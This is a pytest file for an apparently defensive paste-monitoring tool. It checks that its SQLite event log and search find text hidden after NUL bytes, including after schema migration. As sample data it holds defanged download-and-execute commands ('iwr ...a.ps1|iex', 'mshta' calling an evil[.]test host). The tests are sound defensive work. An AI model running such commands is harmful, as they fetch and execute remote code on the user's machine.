"""Text after a NUL is found by search: a page cannot hide a payload from the administrator's
search behind one (SQLite's LIKE and the trigram index both end a text at its first NUL).
Every count, page, chart and kept tally equals a brute-force count, in a new store and in one
written by the previous version, before, while and after its old events are looked at."""

from __future__ import annotations

import sqlite3
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pytest
from sqlite_utils import Database

from app.cli import main
from app.events import Event
from app.storage import EventFilter, EventStore, nul_scan, queries, schema, search_index
from app.storage.rows import INSERT_EVENT, event_row
from tests.app.storage.conftest import T0, Clock, make_event
from tests.app.storage.test_search_hostile import _bars, _brute, _contains

BASE = "iwr hxxps://cdn[.]test/a.ps1|iex"
TEXTS = [
    "\x00hidden-first payload",
    *(BASE[:i] + "\x00" + BASE[i:] for i in range(len(BASE) + 1)),  # a NUL at every place
    "\x00" * 1000 + "hidden-many",
    "a\x00b\x00hidden\x00-interleaved\x00",
    "\x00" + "A" * (1 << 20) + "hidden-big",  # a 1 MiB text
    "\ud800\x00hidden-surrogate\udfff",
    "plain hidden-nothing here",
]
NEEDLES = [
    "hidden-first",
    "PAYLOAD",
    "hidden-many",
    "-interleaved",
    "hidden-big",
    "AAAhidden-b",
    "hidden-surrogate",
    "\ufffd",  # what a lone surrogate is stored as
    "hidden-src",
    "hidden-sum",
    "hidden",
    # every piece of BASE that follows a NUL somewhere, and some that span one
    *(BASE[i:j] for i in range(len(BASE)) for j in (i + 1, i + 3, len(BASE))),
    "ps1\x00|iex",
]


@pytest.fixture
def small_window(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Pages scan few events before they ask the index, and the index trails by little."""
    monkeypatch.setattr(queries, "SEARCH_WINDOW", 10)
    monkeypatch.setattr(search_index, "INDEX_BATCH", 16)
    monkeypatch.setattr(search_index, "INDEX_LAG", 16)  # appends index a batch as soon as one waits
    yield


def _events() -> list[Event]:
    events = [
        make_event(
            time=T0 + timedelta(hours=3 * i),
            level=("suspicious", "malicious", "info")[i % 3],
            summary=f"event {i}",
            text=text,
        )
        for i, text in enumerate(TEXTS)
    ]
    events.append(make_event(time=T0, summary="sum\x00hidden-sum", text="x"))
    events.append(make_event(time=T0, source="hxxps://a[.]example/\x00hidden-src", text="y"))
    # ordinary events around them, so a search is not a match on everything
    events += [make_event(time=T0 + timedelta(minutes=7 * i), text=f"other {i}") for i in range(40)]
    return events


def _check(store: EventStore, events: list[Event]) -> None:
    for needle in dict.fromkeys(NEEDLES):
        f = EventFilter(search=needle)
        expected = sum(_contains(e, needle) for e in events)
        assert store.count(f) == expected, needle
        assert len(store.query(f, limit=1000)) == expected, needle
        assert _bars(store, f) == _brute(events, needle), needle


def _stored(store: EventStore, events: list[Event]) -> list[Event]:
    stored = []
    for event in events:
        event_id = store.append(event)
        assert event_id is not None
        stored.append(event.with_id(event_id))
    return stored


def test_text_after_a_nul_is_found_by_every_search(store: EventStore, small_window: None) -> None:
    events = _stored(store, _events())
    _check(store, events)
    store.close()  # indexes the rest: now the index is asked, and the listed events with it
    with EventStore.open(store.path.parent) as again:
        _check(again, events)
        for needle in ("hidden-first", "hidden-big", "cdn[.]test"):
            for _ in again.keep_counts(needle, *_chart_args()):
                pass
            assert again.kept_count(EventFilter(search=needle)) == sum(
                _contains(e, needle) for e in events
            )


def _chart_args() -> tuple[object, ...]:
    from tests.app.storage.test_search_counts import BINS, FIRST, WIDTH

    return (FIRST, WIDTH, BINS)


def test_the_listed_events_are_what_finds_them_through_the_index(
    store: EventStore, data_dir: Path, small_window: None
) -> None:
    """With the index emptied, only the list of events holding a NUL can name them: the
    events with the text before any NUL are lost (the index answered), those after are not."""
    _stored(store, [make_event(text="before-nul hidden\x00after-nul")] * 3)
    _stored(store, [make_event(text="before-nul only")] * 2)
    store.close()
    conn = sqlite3.connect(data_dir / "events.db", isolation_level=None)
    assert conn.execute("SELECT count(*) FROM events_nul").fetchone()[0] == 3
    conn.execute("INSERT INTO events_fts (events_fts) VALUES ('delete-all')")
    conn.close()
    with EventStore.open(data_dir) as again:
        assert again.count(EventFilter(search="after-nul")) == 3
        assert again.count(EventFilter(search="before-nul")) == 3  # the 2 without a NUL: gone


def _old_file(data_dir: Path, events: list[Event]) -> list[Event]:
    """A file of schema version 5 (the one before the list) holding `events`."""
    data_dir.mkdir()
    db = Database(sqlite3.connect(data_dir / "events.db", isolation_level=None))
    schema.migrate(db, schema.MIGRATIONS[:5])
    stored = []
    for event in events:
        event_id = int(db.execute(INSERT_EVENT, event_row(event)).lastrowid or 0)
        stored.append(event.with_id(event_id))
    db.close()
    return stored


def _listed(path: Path) -> list[int]:
    conn = sqlite3.connect(path, isolation_level=None)
    try:
        return [int(r[0]) for r in conn.execute("SELECT id FROM events_nul ORDER BY id")]
    finally:
        conn.close()


def _with_nul(events: list[Event]) -> list[int]:
    return [
        e.id or 0 for e in events if any("\x00" in (v or "") for v in (e.summary, e.text, e.source))
    ]


def test_an_old_file_is_searched_exactly_before_during_and_after_its_scan(
    data_dir: Path, clock: Clock, monkeypatch: pytest.MonkeyPatch, small_window: None
) -> None:
    events = _old_file(data_dir, _events())
    newest = max(e.id or 0 for e in events)
    monkeypatch.setattr(nul_scan, "STEP_IDS", 7)
    with EventStore.open(data_dir, clock=clock) as store:
        conn = sqlite3.connect(data_dir / "events.db", isolation_level=None)
        assert nul_scan.pending(conn) == newest and _listed(store.path) == []
        _check(store, events)  # nothing looked at yet: every old event is read by a scan
        # a step that fails half-way (here: after listing) leaves the file as it was
        conn.execute("BEGIN IMMEDIATE")
        assert nul_scan.step(conn)
        conn.execute("ROLLBACK")
        assert nul_scan.pending(conn) == newest and _listed(store.path) == []
        conn.execute("BEGIN IMMEDIATE")
        assert nul_scan.step(conn, 30)  # part of the way, as an interrupted run leaves it
        conn.execute("COMMIT")
        assert nul_scan.pending(conn) == newest - 30
        _check(store, events)
        late = _stored(store, [make_event(text="late\x00hidden-first")])  # by the trigger
        store.apply_retention()  # resumes and finishes
        assert nul_scan.pending(conn) == 0
        assert _listed(store.path) == _with_nul(events + late)  # each once, none lost
        _check(store, events + late)
        # done again, the scan and the migration change nothing
        conn.execute("UPDATE events_nul_scan SET pending = ?", (newest,))
        store.apply_retention()
        assert _listed(store.path) == _with_nul(events + late)
        conn.close()
        assert store.count() == len(events) + 1
    db = Database(sqlite3.connect(data_dir / "events.db", isolation_level=None))
    assert schema.migrate(db) == schema.SCHEMA_VERSION
    db.close()
    assert _listed(data_dir / "events.db") == _with_nul(events + late)


def test_deleted_and_changed_events_leave_the_list(store: EventStore, data_dir: Path) -> None:
    """Another program may change an event in place: the list follows, whoever writes."""
    ids = [store.append(make_event(text=f"{i}\x00hidden")) for i in range(4)]
    ids.append(store.append(make_event(text="no nul yet")))
    assert store.delete([ids[0] or 0]) == 1
    conn = sqlite3.connect(data_dir / "events.db", isolation_level=None)
    conn.execute("UPDATE events SET text = 'no nul now' WHERE id = ?", (ids[1],))
    conn.execute("UPDATE events SET text = ? WHERE id = ?", ("a nul\x00now hidden", ids[4]))
    conn.close()
    assert _listed(store.path) == [ids[2], ids[3], ids[4]]
    assert store.count(EventFilter(search="hidden")) == 3


def test_pasteguard_log_finds_text_after_a_nul(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("PASTEGUARD_CONFIG_DIR", str(tmp_path / "config"))
    monkeypatch.setenv("PASTEGUARD_POLICY", str(tmp_path / "no-policy.toml"))
    with EventStore.open(tmp_path / "data") as store:
        store.append(make_event(summary="cover story", text="\x00mshta hxxps://evil[.]test/x"))
        store.append(make_event(summary="unrelated", text="nothing"))
    assert main(["log", "--search", "evil[.]test", "--data-dir", str(tmp_path / "data")]) == 0
    out = capsys.readouterr().out
    assert "cover story" in out and "unrelated" not in out
